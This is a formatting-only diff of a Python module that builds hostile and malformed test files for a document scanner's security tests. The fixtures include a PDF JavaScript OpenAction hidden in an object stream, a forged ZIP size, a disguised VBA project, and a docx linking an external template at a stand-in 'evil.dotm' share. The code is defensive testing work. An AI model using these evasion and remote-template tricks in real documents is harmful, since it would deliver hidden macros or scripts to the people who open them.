@@ -1,4 +1,5 @@
 """Builders of hostile and broken files for the security tests (all generated in memory)."""
+
 from __future__ import annotations
 
 import io
@@ -9,7 +10,7 @@ import zlib
 import docx
 import openpyxl
 
-from needed import SAMPLES  # noqa: E402,F401  (re-exported for the security tests)
+from needed import SAMPLES  # noqa: F401  (re-exported for the security tests)
 
 
 def good_docx(text: str = "关于某单位领导班子对照检查材料的测试段落。") -> bytes:
@@ -50,10 +51,10 @@ def with_declared_size(data: bytes, part: str, size: int) -> bytes:
     signature = b"PK\x01\x02"
     position = buffer.find(signature)
     while position != -1:
-        name_length = struct.unpack("<H", buffer[position + 28:position + 30])[0]
-        name = bytes(buffer[position + 46:position + 46 + name_length]).decode()
+        name_length = struct.unpack("<H", buffer[position + 28 : position + 30])[0]
+        name = bytes(buffer[position + 46 : position + 46 + name_length]).decode()
         if name == part:
-            buffer[position + 24:position + 28] = struct.pack("<I", size)
+            buffer[position + 24 : position + 28] = struct.pack("<I", size)
             return bytes(buffer)
         position = buffer.find(signature, position + 4)
     raise KeyError(part)
@@ -141,8 +142,10 @@ def pdf_with_escaped_names() -> tuple[bytes, bytes]:
 def pdf_with_script_in_object_stream() -> bytes:
     import pikepdf
 
-    data = real_pdf({"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))},
-                    object_streams=True)
+    data = real_pdf(
+        {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))},
+        object_streams=True,
+    )
     assert b"JavaScript" not in data and b"/JS" not in data, "the action must sit in a compressed object stream"
     return data
 
@@ -151,7 +154,8 @@ ATTACHED_TEMPLATE_RELS = (
     b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
-    b' Target="file://fileserver/share/evil.dotm" TargetMode="External"/></Relationships>')
+    b' Target="file://fileserver/share/evil.dotm" TargetMode="External"/></Relationships>'
+)
 
 
 def docx_with_external_template() -> bytes:
@@ -176,8 +180,13 @@ def compound_file(streams: dict[str, bytes]) -> bytes:
     for path, data in streams.items():
         data = data.ljust(4096, b"\0")
         parent = index[path.split("/")[0]] if "/" in path else 0
-        entry = {"name": path.split("/")[-1], "type": 2, "children": [], "start": len(body) // sector,
-                 "size": len(data)}
+        entry = {
+            "name": path.split("/")[-1],
+            "type": 2,
+            "children": [],
+            "start": len(body) // sector,
+            "size": len(data),
+        }
         entries[parent]["children"].append(len(entries))
         entries.append(entry)
         body += data.ljust(-(-len(data) // sector) * sector, b"\0")
@@ -205,22 +214,37 @@ def compound_file(streams: dict[str, bytes]) -> bytes:
         for siblings in (e["children"] for e in entries):
             if number in siblings and siblings.index(number) + 1 < len(siblings):
                 right = siblings[siblings.index(number) + 1]
-        directory += (name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), entry["type"], 1, free, right, child)
-                      + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
-                      + struct.pack("<III", entry.get("start", end if entry["type"] == 5 else 0),
-                                    entry.get("size", 0), 0))
+        directory += (
+            name.ljust(64, b"\0")
+            + struct.pack("<HBBIII", len(name), entry["type"], 1, free, right, child)
+            + b"\0" * 16
+            + b"\0" * 4
+            + b"\0" * 16
+            + struct.pack("<III", entry.get("start", end if entry["type"] == 5 else 0), entry.get("size", 0), 0)
+        )
     directory = directory.ljust(directory_sectors * sector, b"\0")
     difat = [stream_sectors + directory_sectors + i for i in range(fat_sectors)] + [free] * (109 - fat_sectors)
-    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
-              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, directory_start, 0, 4096, end, 0, end, 0)
-              + struct.pack("<109I", *difat))
+    header = (
+        bytes.fromhex("d0cf11e0a1b11ae1")
+        + b"\0" * 16
+        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+        + b"\0" * 6
+        + struct.pack("<IIIIIIIII", 0, fat_sectors, directory_start, 0, 4096, end, 0, end, 0)
+        + struct.pack("<109I", *difat)
+    )
     fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
     return header + body + directory + fat_bytes
 
 
 def vba_project() -> bytes:
-    return compound_file({"VBA/dir": b"\x01" * 64, "VBA/_VBA_PROJECT": b"\xcc\x61" + b"\0" * 5,
-                          "VBA/Module1": b"Attribute VB_Name = \"Module1\"", "PROJECT": b'ID="{00000000}"\r\nModule=Module1\r\n'})
+    return compound_file(
+        {
+            "VBA/dir": b"\x01" * 64,
+            "VBA/_VBA_PROJECT": b"\xcc\x61" + b"\0" * 5,
+            "VBA/Module1": b'Attribute VB_Name = "Module1"',
+            "PROJECT": b'ID="{00000000}"\r\nModule=Module1\r\n',
+        }
+    )
 
 
 def docx_with_vba_named_as_image() -> bytes:
